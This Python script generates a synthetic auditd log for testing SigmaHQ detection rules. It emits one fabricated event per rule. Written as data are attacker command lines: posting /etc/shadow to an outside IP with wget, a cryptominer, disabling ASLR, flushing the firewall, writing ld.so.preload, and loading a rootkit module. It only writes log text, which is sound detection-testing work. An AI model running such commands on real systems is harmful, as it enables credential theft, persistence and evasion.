#!/usr/bin/env python3
# Writes sigmahq-auditd.log: one audit event (raw ENRICHED format, as Debian's
# auditd writes it) for each SigmaHQ rule of service auditd, so that
# tests/readers/run.sh can check that every one of them fires. Events written
# for this test, in the shapes the kernel and auditd produce.
import os
import binascii
GS='\x1d'
t0=1795800000
out=[]
ser=[42000]
def hx(s): return binascii.hexlify(s.encode()).upper().decode()
def q(s): return '"'+s+'"' if all(0x21<=ord(c)<0x7f and c!='"' for c in s) else hx(s)
def ev(recs):
    ser[0]+=1
    ts=f"{t0+ser[0]-42000:.3f}"
    for t,b in recs: out.append(f"type={t} msg=audit({ts}:{ser[0]}): {b}")
def sysc(nr, name, exe, comm, a=("0","0","0","0"), success="yes", exitv="0", key="(null)", items=1, euid=0, uid=0, pid=None):
    pid = pid or 20000+ser[0]%10000
    k = key if key=="(null)" else f'"{key}"'
    return ("SYSCALL", f"arch=c000003e syscall={nr} success={success} exit={exitv} a0={a[0]} a1={a[1]} a2={a[2]} a3={a[3]} items={items} ppid=1000 pid={pid} auid=1000 uid={uid} gid={uid} euid={euid} suid={euid} fsuid={euid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses=3 comm={q(comm)} exe={q(exe)} subj=unconfined key={k}{GS}ARCH=x86_64 SYSCALL={name} AUID=\"alice\" UID=\"root\" GID=\"root\" EUID=\"root\"")
def path(i,name,nt="NORMAL",mode="0100644"): return ("PATH", f"item={i} name={q(name)} inode={5000+i} dev=fe:01 mode={mode} ouid=0 ogid=0 rdev=00:00 nametype={nt} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0{GS}OUID=\"root\" OGID=\"root\"")
def proct(args): return ("PROCTITLE", "proctitle="+(q(args[0]) if len(args)==1 else hx("\0".join(args))))
def run(args, exe=None, euid=0, key="exec"):
    exe = exe or "/usr/bin/"+args[0]
    ev([sysc(59,"execve",exe,args[0][:15],("55e0a1b2c3d0","55e0a1b2c4e0","55e0a1b2c5f0","8"),key=key,items=2,euid=euid),
        ("EXECVE", f"argc={len(args)} "+" ".join(f"a{i}={q(a)}" for i,a in enumerate(args))),
        ("CWD", 'cwd="/home/alice"'), path(0,exe,"NORMAL","0100755"), path(1,"/lib64/ld-linux-x86-64.so.2","NORMAL","0100755"), proct(args)])
def opened(name, nt="NORMAL", nr=257, sname="openat", flags="0", exe="/usr/bin/cat", comm="cat"):
    d = name.rsplit("/",1)[0]+"/"
    ev([sysc(nr,sname,exe,comm,("ffffff9c","7ffd1c2b3a40",flags,"0"),exitv="3",key="files",items=2),
        ("CWD",'cwd="/home/alice"'), path(0,d,"PARENT","040755"), path(1,name,nt), proct([comm,name])])
def syscall(nr, name, exe, comm, a=("0","0","0","0"), key="(null)", euid=0, args=None):
    ev([sysc(nr,name,exe,comm,a,key=key,items=0,euid=euid), proct(args or [comm])])
# execve rules
run(["arecord","-vv","-fdat","/tmp/.rec.wav"])
run(["sysctl","-w","kernel.randomize_va_space=0"], "/usr/sbin/sysctl")
run(["chage","-l","alice"])
run(["uname","-a"])
run(["truncate","-s","+5000","/tmp/payload"])
run(["iptables","-t","nat","-A","PREROUTING","-p","tcp","--dport","22","-j","REDIRECT","--to-ports","42391"], "/usr/sbin/xtables-nft-multi")
run(["getcap","-r","/"], "/usr/sbin/getcap")
run(["touch","-t","202001010000","/etc/cron.d/job"])
run(["chattr","-i","/etc/passwd"])
run(["xclip","-selection","clipboard","-o"])
run(["xclip","-selection","clipboard","-t","image/png","-o"])
run(["xmrig","--cpu-priority=5","-o","pool.example:3333"], "/tmp/.x/xmrig")
run(["zip","-r","/tmp/.d.zip","/srv/design"])
run(["wget","--post-file=/etc/shadow","http://198.51.100.7/u"])
run(["dd","if=/dev/zero","of=/home/alice/notes.txt","bs=1k","count=64"])
run(["chmod","777","/tmp/x"])
run(["grep","-ri","password","/etc"])
run(["mkdir",".hidden"])
run(["cat","cover.jpg","secret.zip"])
run(["cp","/bin/sh","/tmp/crond"])
run(["nft","flush","ruleset"], "/usr/sbin/nft")
run(["tcpdump","-c","100","-i","eth0"], "/usr/bin/tcpdump")
run(["import","-window","root","/tmp/s.png"])
run(["xwd","-root","-out","/tmp/s.xwd"])
run(["steghide","embed","-cf","cover.jpg","-ef","secret.txt"])
run(["steghide","extract","-sf","cover.jpg"])
run(["chmod","u+s","/tmp/sh"])
run(["cat","/root/.bash_history"])
run(["systemctl","restart","ssh"])
run(["shutdown","-h","now"], "/usr/sbin/shutdown")
run(["unzip","cover.jpg"])
run(["whoami"])
# path rules
opened("/etc/audit/auditd.conf", flags="241", exe="/usr/bin/vim.basic", comm="vim")
opened("/var/run/haldrund.pid")
opened("/tmp/.x/payload", exe="/usr/bin/bash", comm="bash")
opened("/etc/ld.so.preload", flags="241", exe="/usr/bin/tee", comm="tee")
opened("/etc/rsyslog.conf")
opened("/proc/sysrq-trigger", flags="1", exe="/usr/bin/bash", comm="bash")
opened("/proc/version")
opened("/etc/systemd/system/updater.service", nt="CREATE", flags="241", exe="/usr/bin/tee", comm="tee")
opened("/etc/profile", flags="401", exe="/usr/bin/bash", comm="bash")
opened("/etc/pam.d/common-password")
opened("/etc/lsb-release")
# service stop, user records
ev([("SERVICE_STOP", "pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=ufw comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'"+GS+"UID=\"root\" AUID=\"unset\"")])
ev([("ADD_USER", "pid=30111 uid=0 auid=1000 ses=3 subj=unconfined msg='op=adding user id=1002 exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'"+GS+"UID=\"root\" AUID=\"alice\" ID=\"svc-backup\"")])
ev([("USER_TTY", "pid=30112 uid=0 auid=1000 ses=3 subj=unconfined data=73756D6D6172790D"+GS+"UID=\"root\" AUID=\"alice\"")])
# syscall rules
syscall(103, "syslog", "/usr/bin/dmesg", "dmesg", ("5","0","0","0"), args=["dmesg","-C"])
syscall(175, "init_module", "/usr/bin/kmod", "insmod", ("7f1c","3a00","55e0","0"), args=["insmod","rootkit.ko"])
ev([sysc(42,"connect","/usr/bin/nc.openbsd","nc",("3","7ffd","10","0"),success="no",exitv="-111",key="network_connect_4",items=0),
    ("SOCKADDR","saddr=02000016C63364070000000000000000"+GS+"SADDR={ saddr_fam=inet laddr=198.51.100.7 lport=22 }"), proct(["nc","-zv","198.51.100.7","22"])])
syscall(2, "open", "/usr/bin/split", "split", ("55e0","241","1b6","0"), args=["split","-b","1M","archive.tgz"])
syscall(99, "sysinfo", "/tmp/.x/agent", "agent")
syscall(133, "mknod", "/usr/bin/mknod", "mknod", ("7ffd","1180","0","0"), args=["mknod","/tmp/f","p"])
ev([sysc(59,"execve","/usr/bin/dash","sh",("55e0","55e1","55e2","8"),key="exec",items=2,euid=33,uid=33),
    ("EXECVE",'argc=3 a0="sh" a1="-c" a2="id"'), ("CWD",'cwd="/var/www/html"'), path(0,"/bin/sh","NORMAL","0100755"), proct(["sh","-c","id"])])
syscall(135, "personality", "/usr/bin/setarch", "setarch", ("40000","0","0","0"), args=["setarch","-R","/bin/bash"])
syscall(41, "socket", "/tmp/.x/exploit", "exploit", ("26","5","0","0"))
ev([sysc(0,"read","/usr/bin/bash","bash",("0","7ffd","1","0"),key="susp_activity",items=0), proct(["bash"])])
open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "sigmahq-auditd.log"), "w").write("\n".join(out)+"\n")
print(len(out), "lines", ser[0]-42000, "events")
